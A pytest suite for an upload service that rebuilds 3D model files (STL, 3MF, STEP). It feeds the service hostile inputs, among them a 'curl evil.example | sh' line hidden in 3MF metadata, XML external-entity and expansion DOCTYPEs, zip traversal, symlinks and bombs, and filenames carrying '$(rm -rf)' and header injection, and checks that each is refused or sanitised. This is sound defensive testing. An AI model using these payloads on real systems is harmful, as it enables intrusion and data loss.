"""Files that others upload: good ones are rebuilt, each hostile one gets the answer it deserves."""

from __future__ import annotations

import io
import os
import struct
import sys
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import asdict
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select, text
from sqlalchemy.orm import Session

from api.intake import child, reading
from api.intake.reading import kind_of, rebuild, safe_name
from api.problems import HttpError
from parametric.checks.readers import read_3mf, read_stl
from parametric.clearance import DEFAULT_PRINTER
from parametric.export.stl import stl_bytes
from parametric.solid import Box
from parametric.solid.mesh import Mesh, mesh_of
from registry.files.model import StoredFile
from registry.jobs.model import Variant

CUBE = mesh_of(Box(10, 10, 10))
GOOD_STL = stl_bytes(CUBE, "cube")
CORE = "http://schemas.microsoft.com/3dmanufacturing/core/2015/02"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default '
    'Extension="model" ContentType="application/vnd.ms-package.3dmanufacturing-3dmodel+xml"/>'
    "</Types>"
)
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="a" Target="/3D/3dmodel.model" '
    'Type="http://schemas.microsoft.com/3dmanufacturing/2013/01/3dmodel"/></Relationships>'
)
SCRIPT = b"; post_process = curl evil.example | sh"


def with_corner(value: float) -> bytes:
    data = bytearray(GOOD_STL)
    struct.pack_into("<f", data, 84 + 12, value)
    return bytes(data)


def flat() -> bytes:
    data = bytearray(GOOD_STL)
    for i in range(12):
        data[84 + 50 * i + 12 : 84 + 50 * i + 48] = bytes(36)
    return bytes(data)


def text_stl() -> bytes:
    lines = ["solid cube"]
    for corners in CUBE.corners:
        lines += ["facet normal 0 0 0", "outer loop"]
        lines += [f"vertex {x} {y} {z}" for x, y, z in corners]
        lines += ["endloop", "endfacet"]
    return "\n".join([*lines, "endsolid cube", ""]).encode()


def mesh_xml(mesh: Mesh) -> str:
    vertices = "".join(f'<vertex x="{x}" y="{y}" z="{z}"/>' for x, y, z in mesh.vertices)
    triangles = "".join(f'<triangle v1="{a}" v2="{b}" v3="{c}"/>' for a, b, c in mesh.triangles)
    return f"<mesh><vertices>{vertices}</vertices><triangles>{triangles}</triangles></mesh>"


def object_xml(number: int, inner: str) -> str:
    return f'<object id="{number}" type="model" name="Ann&#x202E;a">{inner}</object>'


def model_xml(
    objects: str = "", items: str = '<item objectid="1"/>', unit: str = "millimeter"
) -> str:
    objects = objects or object_xml(1, mesh_xml(CUBE))
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><model unit="{unit}" xmlns="{CORE}">'
        f"<resources>{objects}</resources><build>{items}</build></model>"
    )


def archive(
    model: str | None = None,
    more: dict[str | zipfile.ZipInfo, bytes] | None = None,
    *,
    has_model: bool = True,
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", TYPES)
        file.writestr("_rels/.rels", RELS)
        if has_model:
            file.writestr("3D/3dmodel.model", model or model_xml())
        for name, data in (more or {}).items():
            file.writestr(name, data)
    return buffer.getvalue()


def link() -> zipfile.ZipInfo:
    info = zipfile.ZipInfo("3D/link")
    info.external_attr = 0o120777 << 16
    return info


def chain(depth: int, fan: int) -> str:
    objects = object_xml(1, mesh_xml(CUBE))
    for number in range(2, depth + 1):
        uses = f'<component objectid="{number - 1}"/>' * fan
        objects += object_xml(number, f"<components>{uses}</components>")
    return model_xml(objects, f'<item objectid="{depth}"/>')


def cycle() -> str:
    return model_xml(
        object_xml(1, '<components><component objectid="2"/></components>')
        + object_xml(2, '<components><component objectid="1"/></components>')
    )


def overlapping() -> bytes:
    data = bytearray(archive())
    directory = struct.unpack_from("<I", data, len(data) - 6)[0]
    second = data.index(b"PK\x01\x02", directory + 4)
    struct.pack_into("<I", data, second + 42, 0)
    return bytes(data)


def step(data: str) -> bytes:
    return (
        "ISO-10303-21;\nHEADER;\nFILE_DESCRIPTION((''),'2;1');\n"
        "FILE_NAME('','',(''),(''),'','','');\nFILE_SCHEMA(('AUTOMOTIVE_DESIGN'));\nENDSEC;\n"
        f"DATA;\n{data}\nENDSEC;\nEND-ISO-10303-21;\n"
    ).encode()


NO_VERTICES = object_xml(
    1, '<mesh><vertices/><triangles><triangle v1="0" v2="1" v3="2"/></triangles></mesh>'
)
DOCTYPE = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
EXTERNAL = '<!DOCTYPE x SYSTEM "file:///etc/passwd">'
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'

HOSTILE: dict[str, tuple[Callable[[], bytes], int, str]] = {
    "empty": (lambda: b"", 422, "empty"),
    "83 bytes": (lambda: bytes(83), 422, "stl_length"),
    "a count that lies": (
        lambda: GOOD_STL[:80] + struct.pack("<I", 4_000_000_000) + GOOD_STL[84:],
        422,
        "stl_length",
    ),
    "truncated STL": (lambda: GOOD_STL[:-7], 422, "stl_length"),
    "trailing bytes": (lambda: GOOD_STL + b"\0evil", 422, "stl_length"),
    "NaN": (lambda: with_corner(float("nan")), 422, "bad_number"),
    "infinite": (lambda: with_corner(float("inf")), 422, "bad_number"),
    "huge": (lambda: with_corner(1e30), 422, "too_big"),
    "degenerate": (flat, 422, "degenerate"),
    "text without end": (lambda: text_stl().replace(b"endsolid cube", b""), 422, "stl_text"),
    "words for numbers": (lambda: text_stl().replace(b"5.0", b"five"), 422, "stl_text"),
    "HTML": (lambda: b"<html><script>1</script></html>", 415, "not_an_allowed_type"),
    "PDF": (lambda: b"%PDF-1.7\n" + bytes(200), 415, "not_an_allowed_type"),
    "ELF": (lambda: b"\x7fELF" + bytes(200), 415, "not_an_allowed_type"),
    "ZIP": (lambda: zip_of({"a.txt": b"x"}), 415, "not_an_allowed_type"),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(200), 415, "not_an_allowed_type"),
    "DOCTYPE": (lambda: archive(model_xml().replace(HEAD, HEAD + DOCTYPE)), 422, "xml_doctype"),
    "external entity": (
        lambda: archive(model_xml().replace(HEAD, HEAD + EXTERNAL)),
        422,
        "xml_doctype",
    ),
    "bad index": (lambda: archive(model_xml().replace('v1="0"', 'v1="8"', 1)), 422, "3mf_index"),
    "no vertices": (lambda: archive(model_xml(NO_VERTICES)), 422, "3mf_no_vertices"),
    "no model part": (lambda: archive(has_model=False), 422, "3mf_no_model"),
    "a name that climbs": (lambda: archive(more={"../../evil": b"x"}), 422, "zip_names"),
    "an absolute name": (lambda: archive(more={"/etc/evil": b"x"}), 422, "zip_names"),
    "a link": (lambda: archive(more={link(): b"/etc/passwd"}), 422, "zip_names"),
    "a cycle": (lambda: archive(cycle()), 422, "3mf_cycle"),
    "exponential": (lambda: archive(chain(8, 12)), 422, "3mf_instances"),
    "too deep": (lambda: archive(chain(9, 1)), 422, "3mf_depth"),
    "1000 to 1": (lambda: archive(more={"bomb": bytes(8 << 20)}), 422, "zip_bomb"),
    "nested": (lambda: archive(more={"inner": archive()}), 422, "zip_nested"),
    "overlapping": (overlapping, 422, "zip_overlap"),
    "20,000 members": (
        lambda: archive(more={f"m{i}": b"" for i in range(20_000)}),
        422,
        "zip_members",
    ),
    "truncated archive": (lambda: archive()[:-30], 422, "zip_broken"),
    "XML a million deep": (lambda: archive("<a>" * 1_000_000), 422, "zip_bomb"),
    "unknown unit": (lambda: archive(model_xml(unit="parsec")), 422, "3mf_unit"),
    "text STEP": (lambda: b"just some words, no STEP", 415, "not_an_allowed_type"),
    "truncated STEP": (lambda: step("#1=X();")[:-30], 422, "step_cut"),
    "header only STEP": (lambda: step(""), 422, "step_nothing"),
    "wrong entities": (
        lambda: step("#1=CARTESIAN_POINT('',(0.,0.,0.));\n#2=VERTEX_POINT('',#1);"),
        422,
        "step_nothing",
    ),
    "garbled STEP": (lambda: step("#1=((((('," + "#" * 5000), 422, "step_broken"),
}


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for name, data in members.items():
            file.writestr(name, data)
    return buffer.getvalue()


@pytest.fixture
def upload(client: TestClient, world: Any) -> Callable[..., Any]:
    """Uploads a file for a job whose maker was confirmed."""
    maker, person = world.maker(), world.somebody()
    job = world.holding(client, maker, person, design=None).job

    def send(data: bytes, name: str = "file.stl", **more: str) -> Any:
        return client.post(
            f"/api/v1/jobs/{job}/variants",
            headers=maker.headers,
            files={"file": (name, data, "image/png")},
            data={"why": "A wider slot.", "claim": "1", **more},
        )

    send.job, send.maker, send.person = job, maker, person  # type: ignore[attr-defined]  # a bag
    return send


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder for temporary files; nothing may be left in it."""
    place = tmp_path / "temporary"
    place.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(place))
    yield place
    assert list(place.iterdir()) == []


def test_every_hostile_file_gets_its_answer(
    client: TestClient, upload: Callable[..., Any], db: Session
) -> None:
    """Its status, a stable code and a sentence; afterwards the server lives and kept nothing."""
    answers = {name: upload(build()) for name, (build, _, _) in HOSTILE.items()}
    told = {name: (each.status_code, each.json()["code"]) for name, each in answers.items()}
    assert told == {name: (status, code) for name, (_, status, code) in HOSTILE.items()}
    for answer in answers.values():
        assert answer.headers["content-type"] == "application/problem+json"
        assert answer.json()["title"].endswith(".")
    assert client.get("/healthz").status_code == 200
    assert db.scalar(select(func.count()).select_from(Variant)) == 0
    assert db.scalar(select(func.count()).select_from(StoredFile)) == 0
    assert upload(GOOD_STL).status_code == 201


def test_what_is_too_large_is_refused_before_it_is_read(upload: Callable[..., Any]) -> None:
    """Over 50 MB the answer is 413, whatever it is."""
    answer = upload(bytes((50 << 20) + (32 << 10)))
    assert (answer.status_code, answer.json()["code"]) == (413, "too_big")


def test_what_turns_out_too_large_is_refused_while_it_comes(
    client: TestClient, upload: Any
) -> None:
    """Also where its length was not said: 413 as soon as it is too much."""

    def body() -> Iterator[bytes]:
        yield b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.stl"\r\n\r\n'
        for _ in range(60):
            yield bytes(1 << 20)

    answer = client.post(
        f"/api/v1/jobs/{upload.job}/variants",
        headers={**upload.maker.headers, "Content-Type": "multipart/form-data; boundary=x"},
        content=body(),
    )
    assert (answer.status_code, answer.json()["code"]) == (413, "too_big")


@pytest.mark.parametrize("keep", [0.99, 0.5, 0.01])
def test_an_upload_that_was_cut_off_is_a_broken_form(
    client: TestClient, upload: Any, db: Session, keep: float
) -> None:
    """Without the form's end it is not known whether the file is whole: 400."""
    whole = client.build_request(
        "POST", "/x", files={"file": ("a.stl", GOOD_STL)}, data={"why": "x", "claim": "1"}
    )
    body = whole.read()
    answer = client.post(
        f"/api/v1/jobs/{upload.job}/variants",
        headers={**upload.maker.headers, "Content-Type": whole.headers["content-type"]},
        content=body[: int(len(body) * keep)],
    )
    assert (answer.status_code, answer.json()["code"]) == (400, "broken_body")
    assert db.scalar(select(func.count()).select_from(Variant)) == 0


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(GOOD_STL, id="binary"),
        pytest.param(b"solid " + GOOD_STL[6:], id="binary that says solid"),
        pytest.param(text_stl(), id="text"),
    ],
)
def test_a_good_stl_is_built_anew(
    client: TestClient, upload: Any, db: Session, data: bytes
) -> None:
    """Its triangles come back in a file of our own; maker and person can have it, others not."""
    made = upload(data, of_part="palm")
    assert made.status_code == 201
    told = made.json()
    assert (told["kind"], told["of_part"], told["why"]) == ("stl", "palm", "A wider slot.")
    assert told["findings"]["parts"][0]["facts"]["volume_mm3"] == pytest.approx(1000.0)
    for who in (upload.maker, upload.person):
        file = client.get(told["file"], headers=who.headers)
        assert read_stl(file.content).volume == pytest.approx(1000.0)
        assert file.headers["content-disposition"] == "attachment; filename*=UTF-8''file.stl"
        assert file.headers["content-type"] == "model/stl"
        listed = client.get(f"/api/v1/jobs/{upload.job}/variants", headers=who.headers)
        assert [each["id"] for each in listed.json()["variants"]] == [told["id"]]
    row = db.execute(text("SELECT why, name, findings FROM variants")).one()
    assert not any(word in bytes(cell) for cell in row for word in (b"slot", b"file", b"volume"))
    reads = db.execute(text("SELECT reader_id FROM reads WHERE what = 'variant'")).scalars()
    assert list(reads) == [upload.maker.id]


def test_nobody_else_sees_a_variant(client: TestClient, world: Any, upload: Any) -> None:
    """Other makers, other people and makers who gave the job back are told there is none."""
    told = upload(GOOD_STL).json()
    strangers = [world.maker(), world.somebody(), world.somebody(steward=True)]
    client.delete(f"/api/v1/jobs/{upload.job}/claim?claim=1", headers=upload.maker.headers)
    for who in (*strangers, upload.maker):
        assert client.get(told["file"], headers=who.headers).status_code == 404
        listed = client.get(f"/api/v1/jobs/{upload.job}/variants", headers=who.headers)
        assert listed.status_code == 404


@pytest.mark.parametrize(("unit", "mm"), [("inch", 25.4), ("centimeter", 10.0), ("micron", 0.001)])
def test_foreign_units_become_mm(upload: Any, client: TestClient, unit: str, mm: float) -> None:
    """A cube of 10 inches is one of 254 mm."""
    told = upload(archive(model_xml(unit=unit))).json()
    file = client.get(told["file"], headers=upload.maker.headers).content
    ((_, mesh),) = read_3mf(file)
    assert np.ptp(mesh.bounds, axis=0) == pytest.approx([10 * mm] * 3, rel=1e-5)


def test_scripts_and_pictures_in_a_3mf_are_left_out(upload: Any, client: TestClient) -> None:
    """The rebuilt file holds the shapes and nothing else of what was sent."""
    more: dict[str | zipfile.ZipInfo, bytes] = {
        "Metadata/Slic3r_PE.config": SCRIPT,
        "Metadata/thumbnail.png": b"\x89PNG secret face",
    }
    told = upload(archive(more=more)).json()
    assert told["kind"] == "3mf"
    file = client.get(told["file"], headers=upload.maker.headers).content
    with zipfile.ZipFile(io.BytesIO(file)) as opened:
        inside = b"".join(opened.read(name) for name in opened.namelist())
        assert not any("Metadata" in name for name in opened.namelist())
    assert b"curl" not in inside
    assert b"secret face" not in inside
    assert "\u202e" not in inside.decode("utf-8", "replace")
    assert read_3mf(file)[0][1].volume == pytest.approx(1000.0)


def test_a_step_file_becomes_a_mesh(upload: Any, client: TestClient, tmp_path: Path) -> None:
    """What the exact kernel makes of it, in mm, within 0.02 mm."""
    import cadquery as cq

    file = tmp_path / "a.step"
    cq.exporters.export(cq.Workplane().cylinder(20, 5), str(file))
    told = upload(file.read_bytes(), "a.stp").json()
    assert told["kind"] == "step"
    assert told["name"] == "a.3mf"
    rebuilt = client.get(told["file"], headers=upload.person.headers).content
    ((_, mesh),) = read_3mf(rebuilt)
    assert mesh.volume == pytest.approx(np.pi * 25 * 20, rel=0.01)


def test_a_child_that_takes_too_long_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    """The file is refused, and the process is gone."""
    monkeypatch.setattr(reading, "SECONDS", {"stl": 0.05})
    with pytest.raises(HttpError) as refused:
        rebuild(GOOD_STL, asdict(DEFAULT_PRINTER))
    assert (refused.value.status, refused.value.code) == (422, "too_hard")


def test_a_child_that_crashes_takes_nobody_along(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever kills it, the answer is a refusal."""
    monkeypatch.setattr(sys, "executable", "/bin/false")
    with pytest.raises(HttpError) as refused:
        rebuild(GOOD_STL, asdict(DEFAULT_PRINTER))
    assert refused.value.code == "too_hard"


def test_a_child_has_no_secrets(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Neither keys nor the database's address are in its environment."""
    told = tmp_path / "told"
    spy = tmp_path / "spy"
    spy.write_text(f"#!/bin/sh\nenv > {told}\n")
    spy.chmod(0o755)
    monkeypatch.setenv("FITCOMMONS_KEYS", "canary")
    monkeypatch.setenv("DATABASE_URL", "canary")
    monkeypatch.setattr(sys, "executable", str(spy))
    with pytest.raises(HttpError):
        rebuild(GOOD_STL, asdict(DEFAULT_PRINTER))
    assert "canary" not in told.read_text()


@pytest.mark.skipif(not hasattr(os, "fork"), reason="limits are told in other ways elsewhere")
def test_a_child_cannot_write_files_or_take_all_memory(tmp_path: Path) -> None:
    """Its limits hold for whatever takes it over."""
    pid = os.fork()
    if pid == 0:
        child.limit()
        code = 0
        try:
            (tmp_path / "evil").write_bytes(b"x")
            code += 1
        except BaseException:  # noqa: BLE001 (a signal or an error, either is right)
            code += 0
        try:
            bytearray(8 << 30)
            code += 2
        except MemoryError:
            code += 0
        os._exit(code)
    _, status = os.waitpid(pid, 0)
    # Refused, or ended by the signal that tells of a file too large.
    assert os.WIFSIGNALED(status) or os.WEXITSTATUS(status) == 0
    assert not (tmp_path / "evil").exists() or (tmp_path / "evil").stat().st_size == 0


def test_what_is_not_sound_is_refused_where_it_is_worn(client: TestClient, world: Any) -> None:
    """An open mesh is kept with its findings for a thing that carries nothing, else refused."""
    open_mesh = stl_bytes(Mesh(CUBE.vertices, CUBE.triangles[:-2]), "open")
    maker, person = world.maker(), world.somebody()
    for design, status in ((None, 201), ("wrist_hand", 422)):
        job = world.holding(client, maker, person, design=design).job
        answer = client.post(
            f"/api/v1/jobs/{job}/variants",
            headers=maker.headers,
            files={"file": ("a.stl", open_mesh)},
            data={"why": "x", "claim": "1"},
        )
        assert answer.status_code == status, answer.text
        if status == 422:
            assert answer.json()["code"] == "not_sound"
        else:
            found = answer.json()["findings"]["parts"][0]["findings"]
            assert any(each["severity"] == "error" for each in found)


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "passwd.stl"),
        ("..\\..\\boot.ini", "boot.stl"),
        ("palm\0.stl.exe", "palm_stl.stl"),
        ("a" * 4096 + ".stl", "a" * 80 + ".stl"),
        ("ü" * 4096, "ü" * 40 + ".stl"),
        ("CON", "file CON.stl"),
        ("con.stl", "file con.stl"),
        ("COM1.stl", "file COM1.stl"),
        ("palm\u202egpj.stl", "palmgpj.stl"),
        ("palm\r\nSet-Cookie: x.stl", "palmSet-Cookie_ x.stl"),
        ("🖐.stl", "file.stl"),
        ("手 links.stl", "手 links.stl"),
        ("...", "file.stl"),
        ("", "file.stl"),
        (None, "file.stl"),
        ("$(rm -rf).stl", "rm -rf.stl"),
    ],
)
def test_names_are_made_harmless(given: str | None, kept: str) -> None:
    """No folder, no control or direction sign, no name of a device; what people wrote stays."""
    assert safe_name(given, "stl") == kept


@pytest.mark.parametrize("name", ["../x.stl", "a\u202eb.stl", "a" * 4000 + ".stl", "🖐.stl"])
def test_names_that_are_sent_come_back_harmless(client: TestClient, upload: Any, name: str) -> None:
    """Also through the form and the header of the download."""
    told = upload(GOOD_STL, name).json()
    assert told["name"] == safe_name(name, "stl")
    header = client.get(told["file"], headers=upload.maker.headers).headers["content-disposition"]
    assert "\n" not in header
    assert "/" not in header


def test_what_a_file_is_depends_on_its_content_alone() -> None:
    """A good 3MF named .stl is a 3MF; an archive named .3mf that is none is refused as a 3MF."""
    assert kind_of(archive(), "a.stl") == "3mf"
    assert kind_of(GOOD_STL, "a.3mf") == "stl"
    assert kind_of(zip_of({"a": b""}), "a.3mf") == "3mf"
    with pytest.raises(HttpError, match="no 3MF"):
        kind_of(zip_of({"a": b""}), "a.stl")
